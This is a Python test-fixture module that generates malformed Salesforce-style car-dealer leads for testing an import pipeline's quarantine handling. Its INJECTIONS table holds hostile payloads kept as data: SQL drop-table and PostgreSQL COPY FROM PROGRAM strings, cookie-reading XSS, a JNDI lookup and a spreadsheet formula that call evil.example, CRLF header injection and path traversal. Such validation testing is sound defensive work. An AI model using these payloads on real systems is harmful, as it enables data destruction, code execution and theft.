"""A corpus of malformed GM leads (issue 8, point 11): every field broken every way GM data has been
seen broken, or an attacker would break it.

``malformed_leads(dealer_code)`` returns the GM field dicts (API names, the sandbox admin API's
``create_leads`` input) of every case GM stores; ``malformed_cases(dealer_code)`` the same with the
case names; ``refused_by_gm(dealer_code)`` the cases Salesforce (and the sandbox) refuse to save, kept
to show they are refused. Deterministic: Faker pt_BR with a fixed seed, the same leads every call.
Each lead must end as a contact or in ``gmcrm.lead_quarantine`` with a reason, and the rest of its
batch must load.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from faker import Faker

SEED = 20261130
TEXT_FIELDS = (
    "First_Name__c",
    "Last_Name__c",
    "Email__c",
    "Phone__c",
    "Mobile_Phone__c",
    "Document_Number__c",
    "Model_Of_Interest__c",
    "Model_Year__c",
    "Trim__c",
    "Comments__c",
    "Lead_Source__c",
)
#: GM's field lengths (the DMS columns hold the same): an injection cut to fit loads as text.
LENGTHS = {
    "First_Name__c": 80,
    "Last_Name__c": 80,
    "Email__c": 80,
    "Phone__c": 40,
    "Mobile_Phone__c": 40,
    "Document_Number__c": 20,
    "Model_Of_Interest__c": 80,
    "Model_Year__c": 4,
    "Trim__c": 80,
    "Comments__c": 32768,
    "Lead_Source__c": 40,
}
PERSONAL_FIELDS = ("First_Name__c", "Last_Name__c", "Email__c", "Phone__c", "Mobile_Phone__c", "Document_Number__c")

INJECTIONS = {
    "soql": "' OR Dealer_Code__c != '' OR Name LIKE '%",
    "sql": "'); DROP TABLE dms.contact; --",
    "sql_copy": "\\.\nCOPY gmcrm.lead_staging FROM PROGRAM 'id'; \\N\t\\\\",
    "html": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} %s%n%x {0} #{1+1}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"clique") +cmd|" /C calc"!A0',
    "json": '{"Id": "006000000000000AAA", "IsDeleted": true, "__proto__": {"x": 1}}',
    "crlf": "Ana\r\nSet-Cookie: session=1\r\n\r\n<h1>x</h1>",
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    "like": "%_%\\%\\_",
}


@dataclass(frozen=True)
class Case:
    name: str
    fields: dict[str, Any]


def _base(fake: Faker, dealer_code: str) -> dict[str, Any]:
    """A good lead of the dealership (Faker pt_BR), that each case then breaks."""
    return {
        "Dealer_Code__c": dealer_code,
        "Lead_Type__c": "New Vehicle",
        "StageName": "New",
        "First_Name__c": fake.first_name(),
        "Last_Name__c": fake.last_name(),
        "Email__c": fake.unique.free_email(),
        "Phone__c": None,
        "Mobile_Phone__c": fake.cellphone_number(),
        "Document_Number__c": fake.cpf(),
        "Model_Of_Interest__c": "Onix",
        "Model_Year__c": "2026",
        "Trim__c": "1.0 Turbo Premier",
        "Comments__c": fake.sentence(),
        "Lead_Source__c": "Website",
    }


def _overrides(dealer_code: str) -> list[tuple[str, dict[str, Any]]]:
    every = {f: None for f in TEXT_FIELDS}
    cases: list[tuple[str, dict[str, Any]]] = [
        # Encodings and characters PostgreSQL refuses.
        ("mojibake_latin1_as_utf8", {"First_Name__c": "JosÃ©", "Last_Name__c": "da ConceiÃ§Ã£o"}),
        ("double_encoded", {"Last_Name__c": "SÃƒÂ£o JoÃƒÂ£o", "Comments__c": "Ã\x83Â©Ã\x83Â§"}),
        ("control_characters", {"Comments__c": "linha\x01\x02\x1b[31m vermelha\x7f\x08", "Trim__c": "LT\x0b\x0c"}),
        ("nul_in_first_name", {"First_Name__c": "Jo\x00ana"}),
        ("nul_in_email", {"Email__c": "ana\x00@exemplo.com.br"}),
        ("nul_in_document", {"Document_Number__c": "529.982.247-25\x00"}),
        ("nul_in_every_text_field", {f: f"x\x00{i}" for i, f in enumerate(TEXT_FIELDS)}),
        ("only_nul", {"First_Name__c": "\x00", "Last_Name__c": "\x00\x00"}),
        ("lone_high_surrogate", {"Last_Name__c": "Souza \ud83d"}),
        ("lone_low_surrogate", {"Comments__c": "fim \ude00 do texto"}),
        ("reversed_surrogate_pair", {"First_Name__c": "Ana\ude00\ud83d"}),
        ("surrogates_in_email_and_phone", {"Email__c": "a\ud800@b.com", "Mobile_Phone__c": "11 9\udfff8765-4321"}),
        ("byte_order_mark", {"First_Name__c": "\ufeffMaria", "Email__c": "\ufeffmaria@exemplo.com.br"}),
        ("zero_width_characters", {"Email__c": "ana\u200b.souza@exemplo\u200d.com.br", "Last_Name__c": "Li\u200cma"}),
        ("combining_marks", {"First_Name__c": "Jose\u0301", "Last_Name__c": "Conceic\u0327a\u0303o"}),
        ("zalgo", {"Comments__c": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334a\u0337lgo" * 20}),
        ("emoji", {"First_Name__c": "Ana 🚗", "Comments__c": "Quero 🔥🔥🔥 um carro 👍🏽"}),
        ("emoji_only_name", {"First_Name__c": "😀", "Last_Name__c": "👨‍👩‍👧‍👦"}),
        ("rtl_text", {"First_Name__c": "محمد", "Last_Name__c": "שלום", "Comments__c": "مرحبا بالعالم"}),
        ("rtl_override", {"Last_Name__c": "Silva\u202egnp.exe", "Email__c": "\u202emoc.olpmexe@ana"}),
        ("cjk_and_fullwidth", {"First_Name__c": "山田", "Last_Name__c": "太郎", "Trim__c": "ＬＴＺ　１．０"}),
        ("unicode_spaces_in_dealer_code", {"Dealer_Code__c": f"{dealer_code.lower()}\u00a0"}),
        ("private_use_and_noncharacters", {"Comments__c": "\ue000\uf8ff\ufdd0\uffff\U0010ffff"}),
        # Lengths.
        ("first_name_at_its_limit", {"First_Name__c": "A" * 80}),
        ("first_name_too_long", {"First_Name__c": "B" * 500}),
        ("email_too_long", {"Email__c": "c" * 300 + "@exemplo.com.br"}),
        ("phone_too_long", {"Mobile_Phone__c": "9" * 100}),
        ("document_too_long", {"Document_Number__c": "1" * 100}),
        ("model_year_too_long", {"Model_Year__c": "2026/2027"}),
        ("lead_source_too_long", {"Lead_Source__c": "S" * 200}),
        ("comments_at_its_limit", {"Comments__c": "c" * 32768}),
        ("comments_of_emoji", {"Comments__c": "🚗" * 32768}),
        ("huge_comments", {"Comments__c": "Muito texto. " * 80_000}),
        ("huge_name", {"Last_Name__c": "X" * 100_000}),
        # Nulls and blanks in what is required.
        ("no_personal_data_at_all", {f: None for f in PERSONAL_FIELDS}),
        ("every_text_field_null", every),
        ("every_text_field_empty", {f: "" for f in TEXT_FIELDS}),
        ("whitespace_only_names", {"First_Name__c": " \t ", "Last_Name__c": "\u00a0\u3000", "Email__c": "  "}),
        ("no_lead_type", {"Lead_Type__c": None}),
        ("no_stage", {"StageName": None}),
        ("no_created_date", {"CreatedDate": None}),
        # Wrong JSON types GM's JSON reader turns into text or booleans (as Salesforce does).
        (
            "numbers_for_text",
            {"First_Name__c": 12345, "Mobile_Phone__c": 11987654321, "Document_Number__c": 52998224725},
        ),
        ("float_for_text", {"Model_Year__c": 2026.0, "Trim__c": 1.5, "Phone__c": -0.0}),
        ("text_for_boolean", {"IsDeleted": "false"}),
        # Dates.
        ("created_in_year_1", {"CreatedDate": "0001-01-01T00:00:00.000+0000"}),
        ("created_in_year_9999", {"CreatedDate": "9999-12-31T23:59:59.000+0000"}),
        ("created_in_the_future", {"CreatedDate": "2100-01-01T00:00:00.000+0000"}),
        ("created_with_offset", {"CreatedDate": "2026-11-27T10:00:00.000-03:00"}),
        ("created_before_1900", {"CreatedDate": "1899-12-31T23:59:59.000+0000"}),
        # Documents, e-mails, phones.
        ("cpf_bad_check_digits", {"Document_Number__c": "123.456.789-00"}),
        ("cnpj_bad_check_digits", {"Document_Number__c": "11.222.333/0001-00"}),
        ("cpf_repeated_digit", {"Document_Number__c": "111.111.111-11"}),
        ("document_with_letters", {"Document_Number__c": "ABC.DEF.GHI-JK"}),
        ("cpf_oddly_spaced", {"Document_Number__c": " 529 982 247 25 "}),
        (
            "cnpj_without_mask_and_cpf_in_comments",
            {"Document_Number__c": "11222333000181", "Comments__c": "cpf 52998224725"},
        ),
        ("email_malformed", {"Email__c": "ana@@exemplo..com", "Mobile_Phone__c": None}),
        ("email_without_at", {"Email__c": "ana.exemplo.com.br"}),
        ("phone_with_letters", {"Mobile_Phone__c": "(11) ABCD-EFGH", "Phone__c": "ramal 12"}),
        ("phone_too_short", {"Mobile_Phone__c": "123", "Email__c": None, "Document_Number__c": None}),
        ("phone_international", {"Mobile_Phone__c": "+44 20 7946 0958"}),
        # Picklists and codes GM should not send.
        ("unknown_lead_type", {"Lead_Type__c": "Motorcycle"}),
        ("lead_type_other_case", {"Lead_Type__c": "new vehicle"}),
        ("unknown_stage_and_substage", {"StageName": "Bogus", "Substage__c": "Nope"}),
        ("model_year_not_a_year", {"Model_Year__c": "20XX"}),
    ]
    for kind, text in INJECTIONS.items():
        # Whole (too long for the short fields: quarantined) and cut to fit every field (loaded as text).
        cases.append((f"{kind}_injection_in_every_field", {f: text for f in TEXT_FIELDS}))
        cases.append((f"{kind}_injection_fitting_every_field", {f: text[: LENGTHS[f]] for f in TEXT_FIELDS}))
    return cases


def malformed_cases(dealer_code: str = "BR0001") -> list[Case]:
    """Every case GM stores, named, each a whole lead of ``dealer_code``."""
    fake = Faker("pt_BR")
    fake.seed_instance(SEED)
    return [Case(name, {**_base(fake, dealer_code), **fields}) for name, fields in _overrides(dealer_code)]


def malformed_leads(dealer_code: str = "BR0001") -> list[dict[str, Any]]:
    """The GM field dicts of :func:`malformed_cases` (for ``AdminClient.create_leads``)."""
    return [case.fields for case in malformed_cases(dealer_code)]


def refused_by_gm(dealer_code: str = "BR0001") -> list[Case]:
    """Malformed leads Salesforce refuses to save (JSON_PARSER_ERROR and the like): they never reach
    the import; the sandbox refuses them the same way (400)."""
    fake = Faker("pt_BR")
    fake.seed_instance(SEED + 1)
    return [
        Case(name, {**_base(fake, dealer_code), **fields})
        for name, fields in (
            ("boolean_for_text", {"First_Name__c": True}),
            ("object_for_text", {"Email__c": {"address": "a@b.com"}}),
            ("array_for_text", {"Mobile_Phone__c": ["11", "98765-4321"]}),
            ("unparseable_date", {"CreatedDate": "27/11/2026 10:00"}),
            ("date_without_time", {"CreatedDate": "2026-11-27"}),
            ("number_for_boolean", {"IsDeleted": 2}),
        )
    ]
